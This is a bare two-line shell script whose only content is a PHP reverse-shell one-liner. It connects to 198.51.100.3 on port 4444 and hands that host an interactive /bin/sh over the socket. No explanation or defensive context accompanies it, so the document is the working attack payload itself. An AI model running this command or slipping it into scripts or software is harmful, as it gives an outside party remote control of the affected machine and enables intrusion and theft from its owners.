#!/bin/sh
php -r '$s=fsockopen("198.51.100.3",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
